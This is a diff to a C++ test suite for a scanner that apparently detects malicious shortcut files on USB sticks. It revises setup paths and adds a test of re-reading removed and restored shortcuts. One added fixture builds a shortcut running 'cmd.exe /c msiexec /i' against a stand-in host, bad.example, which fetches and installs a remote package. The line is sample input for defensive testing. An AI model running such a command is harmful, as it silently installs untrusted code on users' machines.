@@ -33,12 +33,12 @@ class ShortcutStickTest : public testing::Test {
   protected:
     void SetUp() override {
         test::RemovableStick().Clear();
-        test::DeleteTree(kQuarantine);
+        test::DeleteTree(kQuarantine.substr(0, kQuarantine.size() - 1));
         test::MakeFolders(kQuarantine);
     }
     void TearDown() override {
         test::RemovableStick().Pull();
-        test::DeleteTree(kQuarantine);
+        test::DeleteTree(kQuarantine.substr(0, kQuarantine.size() - 1));
     }
     static const ShortcutFinding* Named(const std::vector<ShortcutFinding>& all, const std::string& path) {
         for (const ShortcutFinding& f : all)
@@ -100,16 +100,17 @@ TEST_F(ShortcutStickTest, ARepeatedPassReadsOnlyChangedShortcuts) {
     ASSERT_TRUE(test::MakeShellLink(Root() + L"Music.lnk", {L"C:\\windows\\notepad.exe"}));
     EXPECT_EQ(scanner.Findings("E:\\").size(), 3u);
     EXPECT_EQ(scanner.FilesRead(), 5u);
-    // Made afresh, the verdict follows the stick: once the mirrored folder is visible it is no longer
-    // shown as hidden by the shortcut, and nothing is read again for that.
+    // The stored verdict stands while the shortcut is unchanged; healing judges afresh.
     ASSERT_TRUE(SetFileAttributesW((Root() + L"Photos").c_str(), FILE_ATTRIBUTE_DIRECTORY));
-    const std::vector<ShortcutFinding> again = scanner.Findings("E:\\");
-    ASSERT_EQ(again.size(), 3u);
+    EXPECT_EQ(scanner.Findings("E:\\").size(), 3u);
     EXPECT_EQ(scanner.FilesRead(), 5u);
-    for (const ShortcutFinding& f : again)
-        if (f.shortcut == "E:\\Photos.lnk") {
-            EXPECT_EQ(f.verdict.mirroredOriginal, "") << "no longer hidden";
-        }
+    // A shortcut removed is forgotten; one put back is read again.
+    ASSERT_TRUE(DeleteFileW((Root() + L"Setup.lnk").c_str()));
+    EXPECT_EQ(scanner.Findings("E:\\").size(), 2u);
+    ASSERT_TRUE(test::MakeShellLink(Root() + L"Setup.lnk", {L"C:\\windows\\system32\\cmd.exe",
+                                                            L"/c msiexec /i http://bad.example/p.msi"}));
+    EXPECT_EQ(scanner.Findings("E:\\").size(), 3u);
+    EXPECT_EQ(scanner.FilesRead(), 6u);
 }
 
 TEST_F(ShortcutStickTest, TheScanWalkListsEveryShortcutAndPayload) {
